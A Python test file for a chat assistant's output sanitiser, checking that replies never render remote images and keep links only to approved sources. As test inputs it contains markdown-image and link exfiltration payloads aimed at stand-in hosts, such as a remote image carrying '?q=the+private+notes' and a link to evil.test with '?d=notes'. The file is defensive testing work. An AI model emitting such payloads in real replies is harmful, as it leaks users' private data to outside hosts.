"""User text shown as typed; model output without remote images and with links only to the
knowledge base or to URLs its sources contain (rendered with Streamlit's own Markdown parser in
tests/e2e/test_e2e_output_handling.py; here, the text handed to it)."""

from __future__ import annotations

import re

import pytest

from assistant.ui.safe_text import plain, safe_markdown, urls_in

PIXEL = "![pixel](http://127.0.0.1:9/p.png)"
LIVE_IMAGE = re.compile(r"(?<!\\)!\[")
LIVE_TAG = re.compile(r"(?<!\\)<img", re.IGNORECASE)


def test_user_text_keeps_every_character_but_nothing_is_live() -> None:
    typed = f"How do I start? {PIXEL} [x](http://evil.test) <img src=x> **bold** http://a.test"
    shown = plain(typed)
    assert shown.replace("\\", "") == typed.replace("\\", "")
    assert not LIVE_IMAGE.search(shown) and "](" not in shown and not LIVE_TAG.search(shown)
    assert "http://" not in shown


@pytest.mark.parametrize(
    "reply",
    [
        f"Try this {PIXEL} [1].",
        "![a][ref]\n\n[ref]: http://127.0.0.1:9/secret-in-url.png",
        "![](http://127.0.0.1:9/p.png?q=the+private+notes)",
        '<img src="http://127.0.0.1:9/p.png">',
    ],
)
def test_model_output_never_carries_a_remote_image(reply: str) -> None:
    shown = safe_markdown(reply)
    assert not LIVE_IMAGE.search(shown)
    assert not LIVE_TAG.search(shown) and "]: http" not in shown


def test_links_survive_only_to_the_knowledge_base_or_the_sources_urls() -> None:
    passage = "See the charity's guide at https://mentoring.example.org/guide for more."
    allowed = urls_in([passage])
    assert allowed == {"https://mentoring.example.org/guide"}
    reply = (
        "Read [the guide](https://mentoring.example.org/guide) [1], the "
        "[playbook](knowledge/playbooks/ai.md), not [this](http://evil.test/x?d=notes) "
        "nor http://evil.test/y nor <http://evil.test/z>."
    )
    shown = safe_markdown(reply, allowed)
    assert "[the guide](https://mentoring.example.org/guide)" in shown
    assert "[playbook](knowledge/playbooks/ai.md)" in shown
    rest = shown.replace("(https://mentoring.example.org/guide)", "")
    assert "://" not in rest  # every other URL is broken up: not a link, not an autolink
    assert "](http" not in rest and "<http" not in rest


def test_ordinary_formatting_is_kept() -> None:
    reply = "**Agree one goal** [1].\n\n- listen first\n- then _ask_ [2]"
    assert safe_markdown(reply) == reply
